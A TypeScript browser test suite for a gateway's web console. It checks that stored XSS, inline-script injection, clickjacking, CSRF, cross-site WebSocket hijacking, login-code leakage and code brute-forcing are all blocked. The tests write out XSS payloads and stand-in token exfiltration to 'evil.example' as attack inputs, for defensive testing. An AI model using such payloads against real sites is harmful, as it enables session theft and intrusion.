import assert from "node:assert/strict";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { until } from "@busbar/core/testkit";
import type { Page } from "playwright-core";
import { withoutBrowser, withPage } from "../support/browser.ts";
import { attackSuite } from "./target/attack-suite.ts";
import type { AttackTarget } from "./target/attack-target.ts";
import { formatRequest } from "./target/http-request.ts";
import { Spy } from "./target/spy.ts";

/** What the page's own functions see of it: this file is checked without the types of browsers. */
interface PageGlobals {
  pwned?: unknown;
  violations?: string[];
  readonly document: {
    readonly title: string;
    readonly body: { append(...nodes: unknown[]): void };
    addEventListener(type: string, listener: (event: { readonly effectiveDirective: string }) => void): void;
    createElement(name: string): { textContent: string; src: string; innerHTML: string; setAttribute(name: string, value: string): void };
    querySelectorAll(selector: string): { readonly length: number };
  };
  readonly WebSocket: new (url: string) => { onopen?: () => void; onerror?: () => void };
  readonly location: { href: string };
}

const skip = withoutBrowser;

/** Opens the console, signed in. */
async function openConsole(page: Page, target: AttackTarget): Promise<void> {
  await noteViolations(page, target);
  await page.goto(`http://127.0.0.1:${target.port("http")}/`);
  await page.locator('#connection[data-state="live"]').waitFor();
}

/** Gives the page a token of its own, and has every violation of its policy noted from the first line on. */
async function noteViolations(page: Page, target: AttackTarget): Promise<void> {
  const session = JSON.stringify({ token: target.token("console-user", { roles: ["admin"], user: true }) });
  await page.addInitScript((text) => {
    const globals = globalThis as unknown as PageGlobals & { sessionStorage: { setItem(key: string, text: string): void } };
    globals.violations = [];
    globals.document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => globals.violations!.push(effectiveDirective));
    globals.sessionStorage.setItem("busbar.session", text);
  }, session);
}

const violationsOf = (page: Page): Promise<string[] | undefined> => page.evaluate(() => (globalThis as unknown as PageGlobals).violations);

/** A page of another site, on a port of its own: `html`, for a browser that also has ours open. */
async function withEvilSite(html: string, run: (url: string) => Promise<void>): Promise<void> {
  const server = createServer((_request, response) => response.writeHead(200, { "content-type": "text/html" }).end(html));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  try {
    await run(`http://localhost:${(server.address() as AddressInfo).port}/`);
  } finally {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  }
}

/** Markup that would run, and is short enough for every field. `at`: where it was put. */
const markup = (at: number): string => `<img src=x onerror=pwned=${at}>`;

attackSuite("browser-page", (attack) => {
  attack("text of a device that is markup (stored XSS), as tag, value, unit, quality, event, alarm, payload, refusal and id: the console shows it as text everywhere", async (target) => {
    const device = "xss-1";
    const session = await target.login("ws", target.token(device, { roles: ["admin"] }), device);
    const say = (type: string, payload: unknown, msgid: string): void => session.publish({ type, from: device, payload, msgid, qos: 1, timestamp: Date.now() });
    const report = (): void => say("status", { values: [{ tag: "on", value: false }, { tag: markup(1), value: 7, unit: markup(2), quality: markup(3) }, { tag: "text", value: markup(4) }] }, `r-${Math.random()}`);
    report();
    say("event", { message: markup(5) }, "e-1");
    say("event", { tag: markup(6), level: markup(7), state: markup(8), value: 1, unit: markup(9) }, "e-2");
    say("event", { any: markup(10) }, "e-3");
    say("event", { tag: markup(11), level: "high", state: "raised", value: markup(12), limit: 3 }, "e-4");
    for (let count = 0; count < 5; count++) await session.next("ack");
    await withPage(async (page, complaints) => {
      const record = { id: markup(13), online: true, lastSeen: Date.now(), values: { [markup(14)]: { value: 1, unit: markup(15), quality: markup(16), timestamp: Date.now() } } };
      await page.route("**/api/devices?*", async (route) => {
        const answer = await route.fetch();
        const body = (await answer.json()) as { devices: unknown[] };
        await route.fulfill({ response: answer, json: { ...body, devices: [...body.devices, record] } }); // the page must not rely on ids that the gateway has checked
      });
      await page.route("**/api/plugins", (route) => route.fulfill({ json: { plugins: [{ id: markup(17), addresses: [{ what: markup(18), url: "http://127.0.0.1", insecure: true }] }] } }));
      await openConsole(page, target);
      report(); // live, besides from history
      const shows = (selector: string, at: number): Promise<void> => page.locator(selector, { hasText: markup(at) }).first().waitFor();
      await shows(".row .tag", 1);
      await shows(".row .unit", 2);
      await page.locator(`.row[data-quality="${markup(3)}"]`).first().waitFor();
      await shows(".row .value", 4);
      for (const at of [5, 6, 10, 11, 12]) await shows("#events .what", at);
      await page.locator(`.event[data-state="${markup(8)}"]`).waitFor();
      await shows(".card-head h3", 13);
      await shows(".row .tag", 14);
      await shows("#insecure", 17);
      await shows("#insecure", 18);
      await page.locator(`[data-device="${device}"] [data-tag="${markup(1)}"]`).click();
      await shows("#chart-title", 1);
      await shows("#chart-unit", 2);
      await page.locator(`#chart[aria-label*="${markup(1)}"]`).waitFor();
      await page.locator(`[data-device="${device}"]`).getByRole("switch").click();
      const command = await session.next("command");
      session.send({ kind: "ack", msgid: String(command["msgid"]), status: "error", payload: { message: markup(19) } });
      await shows(`[data-device="${device}"] .answer`, 19);
      assert.equal(await page.evaluate(() => (globalThis as unknown as PageGlobals).pwned), undefined);
      assert.equal(await page.evaluate(() => (globalThis as unknown as PageGlobals).document.querySelectorAll("img[src=x], [onerror]").length), 0);
      assert.deepEqual(await violationsOf(page), [], "nothing even tried");
      assert.deepEqual(complaints, []);
    });
  }, { skip });

  attack("markup, script or code that somebody gets into the page all the same: its policy does not let it run", async (target) => {
    await withPage(async (page) => {
      await openConsole(page, target);
      const tried = await page.evaluate(() => {
        const globals = globalThis as unknown as PageGlobals;
        const attempt = (run: () => void): string => {
          try {
            run();
            return "ran";
          } catch (error) {
            return (error as Error).name;
          }
        };
        const inline = globals.document.createElement("script");
        return [
          attempt(() => void (globals.document.createElement("div").innerHTML = "<img src=x onerror=pwned=1>")),
          attempt(() => void (inline.textContent = "pwned=2")),
          attempt(() => void (globals.document.createElement("script").src = "https://evil.example/x.js")),
          attempt(() => globals.document.createElement("a").setAttribute("onclick", "pwned=3")),
        ];
      });
      assert.deepEqual(tried, ["TypeError", "TypeError", "TypeError", "TypeError"]);
      // What a debugger asks for may evaluate text; what runs by itself may not.
      const evaluated = await page.evaluate(() => new Promise<string[]>((resolve) => setTimeout(() => resolve([() => (0, eval)("pwned=4"), () => new Function("pwned=5")()].map((run) => {
        try {
          run();
          return "ran";
        } catch (error) {
          return (error as Error).name;
        }
      })))));
      assert.deepEqual(evaluated, ["EvalError", "EvalError"]);
      const reached = await page.evaluate(async () => {
        const get = (globalThis as unknown as { fetch(url: string, options: object): Promise<unknown> }).fetch;
        return await Promise.all(["https://evil.example/", "http://127.0.0.1:1/", "data:text/plain,x"].map((url) => get(url, { mode: "no-cors" }).then(() => "sent", () => "refused")));
      });
      assert.deepEqual(reached, ["refused", "refused", "refused"], "a stolen token cannot be sent away");
      await page.evaluate(() => {
        const globals = globalThis as unknown as PageGlobals;
        const image = globals.document.createElement("img");
        image.src = "https://evil.example/?token";
        const frame = globals.document.createElement("iframe");
        frame.src = "https://evil.example/";
        globals.document.body.append(image, frame);
      });
      await until("the image and the frame are refused", async () => {
        const violations = (await violationsOf(page)) ?? [];
        return violations.includes("img-src") && violations.some((name) => name === "frame-src" || name === "default-src");
      });
      assert.equal(await page.evaluate(() => (globalThis as unknown as PageGlobals).pwned), undefined);
    });
  }, { skip });

  attack("inline script, style and handlers in the document itself, as an injection in the HTML would be: they do not run", async (target) => {
    await withPage(async (page) => {
      await page.route(`http://127.0.0.1:${target.port("http")}/`, async (route) => {
        const answer = await route.fetch();
        await route.fulfill({ response: answer, body: (await answer.text()).replace("<body>", '<body onload="pwned=1"><script>pwned=2</script><script src="data:text/javascript,pwned=3"></script><img src="x" onerror="pwned=4"><base href="https://evil.example/"><style>body{display:none}</style>') });
      });
      await noteViolations(page, target);
      await page.goto(`http://127.0.0.1:${target.port("http")}/`);
      await until("each is refused", async () => {
        const violations = await violationsOf(page);
        return ["script-src-elem", "script-src-attr", "style-src-elem", "base-uri"].every((directive) => violations?.includes(directive));
      }, { show: () => violationsOf(page) });
      assert.equal(await page.evaluate(() => (globalThis as unknown as PageGlobals).pwned), undefined);
      assert.ok(await page.locator(".brand").isVisible());
    });
  }, { skip });

  attack("the console in a frame of another site, to have its visitor click on what he does not see (clickjacking): it is not shown there", async (target) => {
    await withEvilSite(`<h1>evil</h1><iframe src="http://127.0.0.1:${target.port("http")}/"></iframe>`, async (evil) => {
      await withPage(async (page, complaints) => {
        await page.goto(evil);
        await until("the browser refuses the frame", () => complaints.some((text) => /frame-ancestors|X-Frame-Options/i.test(text)), { show: () => complaints });
        for (const frame of page.frames().slice(1)) assert.equal(await frame.locator("#console").count(), 0);
      });
    });
  }, { skip });

  attack("a page of another site that sends forms, requests and a WebSocket to this machine from a real browser (CSRF, CSWSH): nothing is done and nothing read", async (target) => {
    const gateway = `http://127.0.0.1:${target.port("http")}`;
    const spy = await Spy.open(target);
    const form = `<form id="form" method="post" enctype="text/plain" action="${gateway}/api/messages" target="_blank"><input name='{"type":"event","payload":"forged","x":"' value='"}'></form>`;
    await withEvilSite(`<title>evil</title>${form}`, async (evil) => {
      await withPage(async (page) => {
        await page.goto(evil);
        const got = await page.evaluate(async (url) => {
          const globals = globalThis as unknown as PageGlobals & { fetch(url: string, options?: object): Promise<{ readonly type: string; text(): Promise<string> }> };
          const ask = (path: string, options?: object): Promise<string> => globals.fetch(url + path, options).then(async (response) => `${response.type} ${await response.text()}`, () => "refused");
          const socket = new Promise<string>((resolve) => {
            const made = new globals.WebSocket(url.replace("http", "ws") + "/ws");
            made.onopen = () => resolve("open");
            made.onerror = () => resolve("refused");
          });
          return await Promise.all([
            ask("/api/messages", { method: "POST", mode: "no-cors", body: '{"type":"event","payload":"forged"}' }),
            ask("/api/messages", { method: "POST", headers: { "content-type": "application/json" }, body: '{"type":"event","payload":"forged"}' }),
            ask("/api/messages", { method: "POST", credentials: "include", headers: { "content-type": "text/plain" }, body: '{"type":"event","payload":"forged"}' }),
            ask("/metrics"),
            ask("/api/plugins", { credentials: "include" }),
            socket,
          ]);
        }, gateway);
        assert.deepEqual(got.map((text) => text.trim()).filter((text) => text !== "refused" && text !== "opaque"), []);
        const popup = page.context().waitForEvent("page");
        await page.evaluate(() => (globalThis as unknown as { document: { getElementById(id: string): { submit(): void } } }).document.getElementById("form").submit());
        const answer = await popup;
        await answer.waitForLoadState();
        assert.match(await answer.content(), /another site/, "what the form got for an answer is 403");
      });
    });
    assert.deepEqual(await spy.heard(), []);
  }, { skip });

  attack("the console link in a log, a Referer, the history or another window: the code stays in the fragment, leaves the address bar, and is good once", async (target) => {
    const link = /http:\/\/127\.0\.0\.1:\d+\/#code=[\w-]+/.exec(target.output.stdout)?.[0];
    assert.ok(link);
    const code = link.slice(link.indexOf("=") + 1);
    await withPage(async (page) => {
      const seen: string[] = [];
      page.on("request", (request) => seen.push(`${request.url()} ${JSON.stringify(request.headers())}`));
      await page.goto(link);
      await page.locator('#connection[data-state="live"]').waitFor();
      assert.ok(!page.url().includes("code"));
      assert.ok(!seen.map((text) => text.replace(/#code=[\w-]+/, "")).some((text) => text.includes(code)), "no request has it in its URL or a header");
      assert.deepEqual(seen.filter((text) => /"referer":"[^"]/i.test(text)).length, 0, "no request says where it is from");
      await page.goto(`http://127.0.0.1:${target.port("http")}/healthz`);
      await page.goBack();
      await page.locator('#connection[data-state="live"]').waitFor();
      assert.ok(!page.url().includes("code"), "nor has the history");
      const token = await page.evaluate(() => (globalThis as unknown as { sessionStorage: { getItem(key: string): string }; localStorage: { length: number } }).sessionStorage.getItem("busbar.session"));
      assert.ok(token.includes("token"));
      assert.equal(await page.evaluate(() => (globalThis as unknown as { localStorage: { length: number } }).localStorage.length), 0, "it ends with the tab");
    });
    for (let tries = 0; tries < 2; tries++) assert.equal((await target.http({ path: "/api/console/session", body: { code } })).status, 401, "a second time");
    assert.ok(!target.output.stderr.includes(code));
    assert.ok(!(await target.metrics()).includes(code));
  }, { skip });

  attack("guessing the code of the console link, by hundreds at once: each wrong one waits longer, and twenty wait at the most", async (target) => {
    const sockets = await Promise.all(Array.from({ length: 200 }, () => target.raw("http")));
    for (const [at, socket] of sockets.entries()) socket.write(formatRequest(target.port("http"), { path: "/api/console/session", body: { code: `guess-${at}` } }));
    const turnedAway = (): number => sockets.filter(({ received }) => received.startsWith("HTTP/1.1 429 ")).length;
    await until("all but twenty are turned away at once", () => turnedAway() >= 180, { show: turnedAway });
    for (const { received } of sockets) assert.doesNotMatch(received, /^HTTP\/1\.1 200 /);
  });
});
